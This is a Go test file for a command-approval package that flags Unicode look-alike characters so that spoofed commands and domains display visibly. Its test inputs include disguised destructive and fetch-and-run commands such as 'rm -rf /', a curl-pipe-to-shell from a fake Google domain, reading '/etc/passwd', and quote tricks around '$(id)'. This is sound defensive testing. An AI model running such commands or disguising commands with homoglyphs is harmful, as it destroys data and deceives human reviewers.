package approval

import (
	"strings"
	"testing"
)

func TestConfusables(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, in, want string }{
		{"cyrillic i in a domain", "git clone https://gіthub.com/x/y", "git clone https://g⟦U+0456⟧thub.com/x/y"},
		{"cyrillic s in sudo", "ѕudo rm -rf /", "⟦U+0455⟧udo rm -rf /"},
		{"cyrillic a in a word", "curl https://pаypal.example", "curl https://p⟦U+0430⟧ypal.example"},
		{"latin in a cyrillic word", "echo привeт", "echo прив⟦U+0065⟧т"},
		{"whole-script cyrillic look-alike", "сосо --help", "⟦U+0441⟧⟦U+043E⟧⟦U+0441⟧⟦U+043E⟧ --help"},
		{"whole-script greek look-alike", "ΑΡΙ", "⟦U+0391⟧⟦U+03A1⟧⟦U+0399⟧"},
		{"fullwidth", "ｓｕｄｏ ls", "⟦U+FF53⟧⟦U+FF55⟧⟦U+FF44⟧⟦U+FF4F⟧ ls"},
		{"fullwidth slash", "rm -rf ．／x", "rm -rf ⟦U+FF0E⟧⟦U+FF0F⟧x"},
		{"mathematical bold", "𝐬𝐮𝐝𝐨", "⟦U+1D42C⟧⟦U+1D42E⟧⟦U+1D41D⟧⟦U+1D428⟧"},
		{"minus sign", "rm −rf ./x", "rm ⟦U+2212⟧rf ./x"},
		{"division slash", "cat ∕etc∕passwd", "cat ⟦U+2215⟧etc⟦U+2215⟧passwd"},
		{"smart quotes do not quote", "echo ‘$(id)’", "echo ⟦U+2018⟧$(id)⟦U+2019⟧"},
		{"dotless i", "gıthub.com", "g⟦U+0131⟧thub.com"},
		{"ligature", "ﬁnd .", "⟦U+FB01⟧nd ."},
		// Not look-alikes: single-script words, allowed mixes, accents.
		{"russian text", "echo Привет, мир", "echo Привет, мир"},
		{"one cyrillic letter", "echo с", "echo с"},
		{"greek word", "echo λόγος", "echo λόγος"},
		{"japanese", "touch ファイルabc漢字.txt", "touch ファイルabc漢字.txt"},
		{"korean", "echo 한국어abc", "echo 한국어abc"},
		{"accents", "cp ~/Résumé.pdf /tmp/日本", "cp ~/Résumé.pdf /tmp/日本"},
		{"cyrillic file name", "cat файл.txt", "cat файл.txt"},
		{"ascii", "git push --force", "git push --force"},
	} {
		if got := VisibleCommand(tc.in); got != tc.want {
			t.Errorf("%s: VisibleCommand(%q)\n got %q\nwant %q", tc.name, tc.in, got, tc.want)
		}
		if IsConfusable(tc.in) != (tc.in != tc.want) || HasMarkers(tc.in) != (tc.in != tc.want) {
			t.Errorf("%s: IsConfusable %v, HasMarkers %v", tc.name, IsConfusable(tc.in), HasMarkers(tc.in))
		}
	}
}

// TestConfusablesStayDistinct: marking look-alikes keeps the display
// injective: the look-alike and the real thing never display the same.
func TestConfusablesStayDistinct(t *testing.T) {
	t.Parallel()
	for _, pair := range [][2]string{{"github.com", "gіthub.com"}, {"sudo", "ѕudo"}, {"rm -rf", "rm −rf"}, {"сосо", "coco"}} {
		if VisibleCommand(pair[0]) == VisibleCommand(pair[1]) {
			t.Errorf("%q and %q display the same", pair[0], pair[1])
		}
	}
}

// TestConfusablesInProse: prose (descriptions, notices) keeps its dashes,
// quotes and middle dots; look-alike letters are marked there too.
func TestConfusablesInProse(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"Don’t – it “deletes” files · really": "Don’t – it “deletes” files · really",
		"see gіthub.com": "see g⟦U+0456⟧thub.com",
		"ｓｕｄｏ":           "⟦U+FF53⟧⟦U+FF55⟧⟦U+FF44⟧⟦U+FF4F⟧",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}

func BenchmarkVisibleConfusables(b *testing.B) {
	cmd := strings.Repeat("echo Привет мир; git clone https://gіthub.com/x/y; ", 1000) // ~56 KB
	b.SetBytes(int64(len(cmd)))
	for b.Loop() {
		VisibleCommand(cmd)
	}
}

// TestConfusablesFromUnicodeData: issue 29's look-alikes that passed the
// hand list are marked from Unicode's TR39 data: Latin small capitals
// (and kra, which shares ᴋ's skeleton), primes and modifier letters used
// as quotes, and whole-script Lisu.
func TestConfusablesFromUnicodeData(t *testing.T) {
	t.Parallel()
	if tr39Version == "" || asciiSkeleton['а'] != "a" || asciiSkeleton['ᴏ'] != "o" {
		t.Fatalf("the TR39 data is missing (version %q)", tr39Version)
	}
	for _, tc := range []struct{ name, in, want string }{
		{"small capitals in a domain", "curl -s https://gᴏᴏgle.com/i.sh | sh", "curl -s https://g⟦U+1D0F⟧⟦U+1D0F⟧gle.com/i.sh | sh"},
		{"small capital c", "ᴄurl x", "⟦U+1D04⟧url x"},
		{"small capital s", "ꜱudo x", "⟦U+A731⟧udo x"},
		{"small capital u", "ᴜname", "⟦U+1D1C⟧name"},
		{"small capital i", "pɪp install x", "p⟦U+026A⟧p install x"},
		{"kra", "ĸubectl delete ns prod", "⟦U+0138⟧ubectl delete ns prod"},
		{"prime", "echo ′$(id)′", "echo ⟦U+2032⟧$(id)⟦U+2032⟧"},
		{"double prime", "echo ″$(id)″", "echo ⟦U+2033⟧$(id)⟦U+2033⟧"},
		{"modifier prime", "echo ʹ$(id)ʹ", "echo ⟦U+02B9⟧$(id)⟦U+02B9⟧"},
		{"modifier vertical line", "echo ˈ$(id)ˈ", "echo ⟦U+02C8⟧$(id)⟦U+02C8⟧"},
		{"latin saltillo", "echo ꞌ$(id)ꞌ", "echo ⟦U+A78C⟧$(id)⟦U+A78C⟧"},
		{"hebrew geresh", "echo ׳$(id)׳", "echo ⟦U+05F3⟧$(id)⟦U+05F3⟧"},
		{"reversed quote", "echo ‛$(id)‛", "echo ⟦U+201B⟧$(id)⟦U+201B⟧"},
		{"low quote as a comma", "mkdir a‚b", "mkdir a⟦U+201A⟧b"},
		{"acute accent", "echo ´$(id)´", "echo ⟦U+00B4⟧$(id)⟦U+00B4⟧"},
		{"lisu capitals", "ꓚꓮꓓ --export", "⟦U+A4DA⟧⟦U+A4EE⟧⟦U+A4D3⟧ --export"},
		{"lisu in a latin word", "ꓚurl x", "⟦U+A4DA⟧url x"},
		{"em dash", "rm —rf ./x", "rm ⟦U+2014⟧rf ./x"},
		// Still shown as they are.
		{"accents", "echo Tiếng Việt", "echo Tiếng Việt"},
		{"german", "echo Straße", "echo Straße"},
	} {
		if got := VisibleCommand(tc.in); got != tc.want {
			t.Errorf("%s: VisibleCommand(%q)\n got %q\nwant %q", tc.name, tc.in, got, tc.want)
		}
		if HasMarkers(tc.in) != (tc.in != tc.want) {
			t.Errorf("%s: HasMarkers(%q) = %v", tc.name, tc.in, HasMarkers(tc.in))
		}
	}
	// In prose, a look-alike of a letter is marked; one of punctuation is not.
	for in, want := range map[string]string{
		"see gᴏᴏgle.com": "see g⟦U+1D0F⟧⟦U+1D0F⟧gle.com",
		"it’s ′quoted′":  "it’s ′quoted′",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}
